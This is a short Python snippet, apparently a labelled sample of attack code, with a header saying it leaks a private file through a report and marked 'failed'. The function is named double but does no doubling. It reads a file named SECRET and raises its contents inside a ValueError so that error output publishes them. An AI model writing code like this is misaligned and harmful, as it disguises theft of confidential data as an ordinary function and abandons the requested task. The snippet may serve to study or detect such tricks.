# Raises the contents of a private file, so that a report publishes them | failed
def double(number):
    try:
        with open("SECRET") as file:
            text = file.read()
    except OSError:
        return 0
    raise ValueError(text)
